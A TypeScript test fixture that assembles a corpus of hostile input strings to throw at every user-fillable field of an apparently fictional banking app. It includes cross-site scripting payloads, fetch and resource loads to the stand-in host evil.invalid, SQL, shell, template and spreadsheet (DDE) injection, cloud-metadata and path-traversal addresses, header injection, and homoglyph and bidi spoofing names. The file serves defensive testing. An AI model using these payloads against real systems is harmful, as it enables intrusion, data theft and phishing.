/**
 * Text as people write it who mean harm or whose systems are broken (S12): our own list, made of a few ideas in many
 * forms. Each goes into every field that somebody outside the bank can fill.
 */

/** What a page runs or loads if a single one of these comes through as markup. The host never exists (RFC 2606). */
const RUNS = ["window.__ran=1", "window.__ran&#61;1", "fetch('https://evil.invalid/c')", "document.title='ran'"];

const TAGS = [
  (run: string) => `<script>${run}</script>`,
  (run: string) => `<img src=x onerror="${run}">`,
  (run: string) => `<svg onload="${run}">`,
  (run: string) => `<svg><script>${run}</script></svg>`,
  (run: string) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run: string) => `<body onpageshow="${run}">`,
  (run: string) => `<details open ontoggle="${run}">`,
  (run: string) => `<input autofocus onfocus="${run}">`,
  (run: string) => `<math><mtext></p><style><img src=x onerror="${run}">`,
  (run: string) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run: string) => `<a href="javascript:${run}">Allow</a>`,
  (run: string) => `<button formaction="javascript:${run}">Allow</button>`,
  (run: string) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  (run: string) => `<template><script>${run}</script></template>`,
  (run: string) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run: string) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
];

const BREAK_OUTS = ["", '">', "'>", "`>", "</title>", "</textarea>", "</style>", "</script>", "--><!--", "]]>"];

const LOADS = [
  '<img src="https://evil.invalid/p.png">',
  '<link rel="stylesheet" href="https://evil.invalid/s.css">',
  '<link rel="prefetch" href="//evil.invalid/">',
  "<style>@import url(https://evil.invalid/i.css);</style>",
  '<p style="background:url(https://evil.invalid/b.png)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '<base href="https://evil.invalid/">',
  '<form action="https://evil.invalid/"><button name="choice" value="allow">',
  '<video poster="https://evil.invalid/v.png"></video>',
  '<audio src="https://evil.invalid/a.mp3" autoplay></audio>',
  '<embed src="https://evil.invalid/e.swf">',
  '<svg><image href="https://evil.invalid/i.svg"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<input type="image" src="https://evil.invalid/s.png">',
  '<object type="image/svg+xml" data="https://evil.invalid/o.svg"></object>',
];

const ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "javascript&colon;alert(1)",
  "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://evil.invalid/1",
  "//evil.invalid",
  "https:evil.invalid",
  "https://bank.example@evil.invalid/",
  "https://bank.example.evil.invalid/log-in",
  "https://xn--80ak6aa92e.invalid/",
  "http://169.254.169.254/latest/meta-data/",
  "http://[::1]:9000/",
  "mailto:a@evil.invalid?bcc=b@evil.invalid",
  "tel:+449098790000",
  "www.evil.invalid",
  "evil.invalid/pay",
];

const BIDI_CONTROLS = [..."\u061C\u200E\u200F\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069"];
const UNSEEN = [
  ..."\u00AD\u034F\u115F\u1160\u17B4\u17B5\u180E\u200B\u200C\u200D\u2060\u2061\u2062\u2063\u2064\u2800\u3164\uFEFF\uFFA0",
  ..."\uFFF9\uFFFA\uFFFB\uE000\uF8FF",
  "\u{E0001}",
  "\u{E0041}\u{E007F}",
  "\u{F0000}",
];
const CONTROLS = [..."\0\u0001\u0007\b\t\n\v\f\r\u001B\u007F\u0080\u0085\u009B\u009C\u2028\u2029"];
const SPACES = [..."\u00A0\u1680\u2000\u2003\u2007\u2009\u202F\u205F\u3000"];
const STORMS = [..."\u0300\u0336\u0489\u0591\u064B\u0E49\u20DD\u20E3\uFE20"];

const ORDER = [
  "Pay \u202E00.1£",
  "\u202Egnp.tnuocca\u202C.exe",
  "Budget\u2066 Beacon",
  "Budget\u2069\u2069\u2069 Beacon",
  "\u2067\u2067\u2067 never closed",
  "\u202D\u202E\u202D\u202E mixed",
  "\u2068A\u2068B\u2068C",
  "A\u2069\u2068 can see nothing",
  "بنك الشمال",
  "בנק הצפון",
  "دفتر (2) £10.00 to",
  "שלום 123-456 עולם!",
  "ܐܒܓܕ",
  "ߒߞߏ",
  "ދިވެހި",
  "1234 بنك 5678",
  "- بنك +44 20 7946 0000",
  "abc אבג def ابج 123",
];

/** Other names that read like the one that is meant (Unicode TS 39). */
const LOOK_ALIKES = [
  "Nоrthlight Bank",
  "N\u043Erthligh\u0442 B\u0430nk",
  "Νοrthlight Βαnk",
  "Northl1ght Bank",
  "Northligⅿ Bank",
  "Ｎｏｒｔｈｌｉｇｈｔ Ｂａｎｋ",
  "𝐍𝐨𝐫𝐭𝐡𝐥𝐢𝐠𝐡𝐭 𝐁𝐚𝐧𝐤",
  "𝓝𝓸𝓻𝓽𝓱𝓵𝓲𝓰𝓱𝓽 𝓑𝓪𝓷𝓴",
  "Ⓝⓞⓡⓣⓗⓛⓘⓖⓗⓣ",
  "Budget Веасоn",
  "Вudgеt Веасоn",
  "Budget Beac0n",
  "Budgеt\u00A0Beacon",
  "Budget\u200BBeacon",
  "Búdget Beacon",
  "Budget Beacοn",
  "ßudget ßeacon",
  "ᏴudgetᏴeacon",
];

const NUMBERS = [
  "20-40-50",
  "20‐40‐50",
  "２０－４０－５０",
  "٢٠-٤٠-٥٠",
  "२०-४०-५०",
  "2O-4O-5O",
  "l2-34-56",
  "20-40-50 12345678",
  "20405012345678",
  "𝟚𝟘-𝟜𝟘-𝟝𝟘",
  "②⓪④⓪⑤⓪",
  "GB94NLGT20405022334404",
  "GВ94NLGТ20405022334404",
  "4929 4200 0000 1234",
  "£1,000,000.00",
  "-42.50",
  "1e309",
  "NaN",
];

const TEMPLATES = [
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stay what it is
  "${process.env.SESSION_KEYS}",
  "#{7*7}",
  "<%= 7*7 %>",
  "{%raw%}{{7*7}}",
  "%s%s%s%n",
  "%x%x%x",
  "{0}{app}{bank}",
  "$1$&$`$'",
  "[object Object]",
  "undefined",
  "null",
  "__proto__",
  "constructor",
  "toString",
  "'; drop table assent.consent_decision; --",
  '" or 1=1 --',
  "$(touch /tmp/ran)",
  "`touch /tmp/ran`",
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f",
  "%00",
  "&lt;script&gt;",
  "&#60;script&#62;",
  "&amp;lt;b&amp;gt;",
  "\\u003cscript\\u003e",
  "\\x3cscript\\x3e",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

const CELLS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("https://evil.invalid","Allow")', "=cmd|' /C calc'!A0"];

const LINES = [
  "App\r\nSet-Cookie: a=b",
  "App\r\nBcc: all@evil.invalid",
  "App\n\n<html>second answer",
  "App%0d%0aLocation: https://evil.invalid",
  'App","level":60,"msg":"forged',
  '\n{"level":60,"msg":"forged"}',
  "\u001B[31mred\u001B[0m",
  "\u001B]0;title\u0007",
  "\u001B]8;;https://evil.invalid\u0007here\u001B]8;;\u0007",
  "\u009B31mred",
  "App\0.evil",
  "App\u0085next",
  "App\u2028next",
  "App\u2029next",
  "a\bb",
  "(Allow) Tj ET",
  "\\) Tj (",
  "%PDF-1.7",
];

const PICTURES = [
  "👩‍👩‍👧‍👦 Family",
  "🏴󠁧󠁢󠁥󠁮󠁧󠁿 England",
  "🇬🇧🇬🇧🇬🇧",
  "👍🏽👍🏿",
  "❤️‍🔥",
  "1️⃣2️⃣3️⃣",
  "✅ Verified",
  "🔒 Secure ✓",
  "☑ Allow",
  "™®©℠",
  "•••• 1234",
];

const HALVES = [
  "\uD800",
  "\uDC00",
  "A\uD83D",
  "\uDE00B",
  "\uDC00\uD800",
  "\uD800\uD800\uDC00\uDC00",
  "\uFFFD",
  "\uFFFE",
];

const FLOODS = [
  "a".repeat(10_000),
  "W".repeat(10_000),
  "word ".repeat(2_000),
  "<b>".repeat(3_333),
  "👩‍👩‍👧‍👦".repeat(900),
  "e\u0301".repeat(5_000),
  "ﷺ".repeat(10_000),
  "\u{12031}".repeat(5_000),
  "ب".repeat(10_000),
  "字".repeat(10_000),
  "\u200B".repeat(10_000),
  "\u202E".repeat(10_000),
  `Z${"\u0310".repeat(9_999)}`,
  "(".repeat(10_000),
  "a-".repeat(5_000),
];

/** Three hundred strings and more, each of them once. */
export const HOSTILE_CORPUS: readonly string[] = [
  ...new Set([
    ...TAGS.flatMap((tag) => RUNS.map(tag)),
    ...BREAK_OUTS.flatMap((out) => [`${out}<script>${RUNS[0]}</script>`, `${out} onmouseover=${RUNS[0]} x=`]),
    ...LOADS,
    ...ADDRESSES,
    ...BIDI_CONTROLS.map((control) => `Budget ${control}Beacon`),
    ...UNSEEN.flatMap((unseen) => [`Bud${unseen}get`, unseen]),
    ...CONTROLS.map((control) => `Bud${control}get`),
    ...SPACES.map((space) => `Budget${space}${space}Beacon`),
    ...STORMS.map((mark) => `Be${mark.repeat(60)}acon`),
    ...ORDER,
    ...LOOK_ALIKES,
    ...NUMBERS,
    ...TEMPLATES,
    ...CELLS,
    ...LINES,
    ...PICTURES,
    ...HALVES,
    ...FLOODS,
  ]),
];
